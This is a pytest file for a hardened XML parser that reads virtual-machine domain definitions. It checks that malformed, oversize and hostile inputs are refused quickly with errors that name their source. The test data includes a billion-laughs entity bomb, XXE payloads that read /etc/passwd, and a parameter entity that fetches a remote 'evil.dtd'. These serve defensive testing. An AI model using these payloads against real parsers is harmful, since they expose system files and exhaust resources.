"""The hardened XML parser: every hostile or broken input is an InputError naming its source, quickly."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from lxml import etree

from virtpolicy.errors import InputError
from virtpolicy.inputs.domain import Domain
from virtpolicy.inputs.xmlsafe import MAX_INPUT_BYTES, expect_root, parse_bytes, parse_file

SOURCE = "app-input.xml"

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n'
    b"<!DOCTYPE lolz [\n"
    b' <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
    )
    + b"]>\n<domain><name>&lol9;</name></domain>\n"
)

XXE = (
    b'<?xml version="1.0"?>\n'
    b'<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    b"<domain><name>&x;</name></domain>\n"
)


def _refused(data: bytes, source: str = SOURCE) -> tuple[InputError, float]:
    start = time.perf_counter()
    with pytest.raises(InputError) as info:
        Domain.from_bytes(data, source)
    return info.value, time.perf_counter() - start


def test_well_formed_domain_parses() -> None:
    """Control case: the hardening must not reject an ordinary domain."""
    dom = Domain.from_bytes(b"<domain type='kvm'><name>ok</name></domain>", SOURCE)
    assert dom.name == "ok"
    assert dom.root.get("type") == "kvm"


def test_malformed_xml_names_source_and_line() -> None:
    data = b"<domain>\n  <name>x</name>\n  <devices>\n</domain>\n"
    err, _ = _refused(data)
    message = str(err)
    assert message.startswith(f"{SOURCE}:4:"), message
    assert "malformed XML" in message
    assert "\n" not in message


def test_malformed_file_error_names_the_path(tmp_path: Path) -> None:
    path = tmp_path / "broken.xml"
    path.write_bytes(b"<domain>\n<name>\n</domain>")
    with pytest.raises(InputError) as info:
        Domain.from_file(path)
    assert str(info.value).startswith(f"{path}:3:"), str(info.value)


def test_billion_laughs_refused_quickly() -> None:
    err, elapsed = _refused(BILLION_LAUGHS)
    assert elapsed < 1.0, f"entity expansion took {elapsed:.2f}s"
    assert str(err).startswith(f"{SOURCE}:"), str(err)
    assert "entity" in str(err).lower()


def test_external_entity_refused_and_not_read() -> None:
    err, elapsed = _refused(XXE)
    assert elapsed < 1.0
    assert str(err).startswith(f"{SOURCE}:2:"), str(err)
    assert "root:" not in str(err)  # nothing of /etc/passwd leaks into the message


def test_parameter_entity_with_network_dtd_refused() -> None:
    data = b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>\n<domain/>'
    err, elapsed = _refused(data)
    assert elapsed < 1.0
    assert SOURCE in str(err)


def test_external_entity_in_utf16_refused() -> None:
    text = (
        '<?xml version="1.0" encoding="UTF-16"?>\n'
        '<!DOCTYPE domain [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        "<domain><name>&x;</name></domain>\n"
    )
    start = time.perf_counter()
    try:
        dom = Domain.from_bytes(text.encode("utf-16"), SOURCE)
    except InputError as exc:
        assert time.perf_counter() - start < 1.0
        assert SOURCE in str(exc)
        return
    pytest.fail(
        f"UTF-16 document declaring an external entity was accepted; the tree now holds "
        f"{etree.tostring(dom.root)!r}, which is not well-formed without the DTD"
    )


def test_utf16_billion_laughs_refused_quickly() -> None:
    text = BILLION_LAUGHS.decode().replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    err, elapsed = _refused(text.encode("utf-16"))
    assert elapsed < 1.0
    assert SOURCE in str(err)


def test_doctype_after_long_comment_refused() -> None:
    data = b"<!-- " + b"x" * 5000 + b' -->\n<!DOCTYPE domain SYSTEM "http://192.0.2.1/domain.dtd">\n<domain/>'
    with pytest.raises(InputError, match="DOCTYPE"):
        Domain.from_bytes(data, SOURCE)


def test_wrong_root_element_named() -> None:
    err, _ = _refused(b"<network>\n<name>default</name>\n</network>")
    message = str(err)
    assert message.startswith(f"{SOURCE}:1:"), message
    assert "<network>" in message and "<domain>" in message


def test_expect_root_accepts_matching_root() -> None:
    tree = parse_bytes(b"<capabilities/>", "caps.xml")
    assert expect_root(tree, "capabilities", "caps.xml").tag == "capabilities"
    with pytest.raises(InputError, match=r"caps\.xml:1: root element is <capabilities>, expected <domain>"):
        expect_root(tree, "domain", "caps.xml")


def test_oversize_input_refused_before_parsing() -> None:
    data = b"<domain>" + b" " * (MAX_INPUT_BYTES) + b"</domain>"
    assert len(data) > 16 * 1024 * 1024
    err, elapsed = _refused(data)
    assert elapsed < 1.0
    assert str(err).startswith(f"{SOURCE}:")
    assert str(len(data)) in str(err) and str(MAX_INPUT_BYTES) in str(err)


def test_input_exactly_at_limit_is_parsed() -> None:
    """The limit is > 16 MiB, not >=: an input of exactly MAX_INPUT_BYTES is still read."""
    head, tail = b"<domain><name>big</name>", b"</domain>"
    chunk = b"<!--" + b"c" * 1017 + b"-->\n"  # many small nodes: libxml2 caps a single text node at 10 MB
    body = chunk * ((MAX_INPUT_BYTES - len(head) - len(tail)) // len(chunk))
    data = head + body + b" " * (MAX_INPUT_BYTES - len(head) - len(tail) - len(body)) + tail
    assert len(data) == MAX_INPUT_BYTES
    assert Domain.from_bytes(data, SOURCE).name == "big"


@pytest.mark.parametrize(
    "data",
    [
        bytes(range(128, 256)) * 8,
        "<domain><name>é</name></domain>".encode("latin-1"),
        b"\xff\xfe\x00\x00garbage",
        b"<domain>\x00</domain>",
    ],
    ids=["high-bytes", "latin1-no-declaration", "bad-bom", "nul"],
)
def test_non_utf8_garbage_refused(data: bytes) -> None:
    err, elapsed = _refused(data)
    assert elapsed < 1.0
    assert str(err).startswith(f"{SOURCE}:"), str(err)


@pytest.mark.parametrize("data", [b"", b"   \n\t", b"\n"], ids=["empty", "whitespace", "newline"])
def test_empty_input_refused(data: bytes) -> None:
    err, _ = _refused(data)
    assert str(err).startswith(f"{SOURCE}:"), str(err)
    assert "malformed XML" in str(err)


def test_unreadable_file_names_path(tmp_path: Path) -> None:
    missing = tmp_path / "nope.xml"
    with pytest.raises(InputError, match=r"nope\.xml: cannot read"):
        parse_file(missing)
    with pytest.raises(InputError, match=r"nope\.xml: cannot read"):
        Domain.from_file(missing)
    with pytest.raises(InputError, match="cannot read"):
        parse_file(tmp_path)  # a directory is not a document
